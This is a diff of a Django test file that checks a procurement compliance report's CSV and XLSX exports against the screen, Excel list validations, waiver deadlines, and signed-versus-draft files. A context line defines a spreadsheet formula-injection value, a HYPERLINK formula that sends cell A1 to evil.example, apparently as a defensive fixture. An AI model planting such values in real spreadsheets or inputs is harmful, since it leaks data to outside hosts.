@@ -12,6 +12,7 @@ from django.urls import reverse
 from pypdf import PdfReader
 
 from procurement.compliance import services
+from procurement.inventory.enums import SystemStatus
 from tests.factories import SystemFactory
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -48,13 +49,18 @@ def as_text(value):
 def test_xlsx_follows_the_issuer_layout_and_equals_the_screen(client, alice, report):
     client.force_login(alice)
     workbook = openpyxl.load_workbook(io.BytesIO(download(client, report, "xlsx")))
-    assert workbook.sheetnames == ["Questions", "Inventory", "Signature"]
+    assert workbook.sheetnames == ["Questions", "Inventory", "Lists", "Signature"]
     inventory = workbook["Inventory"]
     rows = [[as_text(value) for value in row] for row in inventory.iter_rows(min_row=2, values_only=True)]
     screen = [[as_text(value) for value in row] for row in screen_rows(client, report)]
     assert rows == screen
-    validations = {str(v.sqref): v.formula1 for v in inventory.data_validations.dataValidation}
-    assert validations["D2:D4"].startswith('"Identified,Assessed')
+    validations = {str(v.sqref): (v.type, v.formula1) for v in inventory.data_validations.dataValidation}
+    statuses = len(SystemStatus.labels)
+    assert validations["D2:D4"] == ("list", f"Lists!$A$2:$A${statuses + 1}")
+    assert validations["H2:H4"] == ("list", "Lists!$E$2:$E$3")
+    lists = workbook["Lists"]
+    assert [cell.value for cell in lists["A"][1 : statuses + 1]] == list(SystemStatus.labels)
+    assert [cell.value for cell in lists["E"][:3]] == ["NSS", "Yes", "No"]
     answers = dict(workbook["Questions"].iter_rows(min_row=2, values_only=True))
     assert answers["Dependent systems found"] == 3 and answers["None found (explicit negative report)"] == "No"
     assert dict(workbook["Signature"].iter_rows(min_row=2, values_only=True))["Status"] == "Draft: not signed"
@@ -133,3 +139,42 @@ def test_export_report_names_an_unknown_agency(tmp_path, report):
 
     with pytest.raises(CommandError, match="'NOPE'"):
         call_command("export_report", "--agency=NOPE", "--format=csv", f"--out={tmp_path / 'x.csv'}")
+
+
+def test_files_show_the_deadline_in_force_as_the_screen_does(client, alice, directive, component_a, system_a):
+    """The files compute it in SQL; the screen in Python (`selectors.effective_deadline`)."""
+    from procurement.inventory.models import System
+
+    later = system_a.removal_deadline + datetime.timedelta(days=60)
+    earlier = system_a.removal_deadline - datetime.timedelta(days=5)
+    SystemFactory(agency=component_a, directive=directive, fisma_id="IRS-0002")
+    SystemFactory(agency=component_a, directive=directive, fisma_id="IRS-0003")
+    System.objects.filter(pk=system_a.pk).update(waiver_until=later)
+    System.objects.filter(fisma_id="IRS-0002").update(waiver_until=earlier)
+    System.objects.filter(fisma_id="IRS-0003").update(removal_deadline=None, waiver_until=later)
+    report = services.status_report_generate(directive=directive, agency=component_a, number=1)
+    client.force_login(alice)
+    screen = [[as_text(value) for value in row] for row in screen_rows(client, report)]
+    lines = list(csv.reader(io.StringIO(download(client, report, "csv").decode("utf-8-sig"))))
+    assert lines[1:] == [[str(value) for value in row] for row in screen]
+    workbook = openpyxl.load_workbook(io.BytesIO(download(client, report, "xlsx")))
+    rows = [[as_text(value) for value in row] for row in workbook["Inventory"].iter_rows(min_row=2, values_only=True)]
+    assert rows == screen
+    deadlines = {row[0]: row[10] for row in screen}
+    assert deadlines[system_a.fisma_id] == later.isoformat()
+    assert deadlines["IRS-0002"] == system_a.removal_deadline.isoformat()  # a waiver ending earlier changes nothing
+    assert deadlines["IRS-0003"] == later.isoformat()
+
+
+def test_a_signed_reports_files_equal_its_draft_files(client, alice, ivy, report):
+    client.force_login(alice)
+    draft_csv, draft_xlsx = download(client, report, "csv"), download(client, report, "xlsx")
+    services.status_report_sign(user=ivy, report=report, version=report.version)
+    report.refresh_from_db()
+    assert download(client, report, "csv") == draft_csv
+
+    def inventory(content):
+        sheet = openpyxl.load_workbook(io.BytesIO(content))["Inventory"]
+        return list(sheet.iter_rows(values_only=True))
+
+    assert inventory(download(client, report, "xlsx")) == inventory(draft_xlsx)
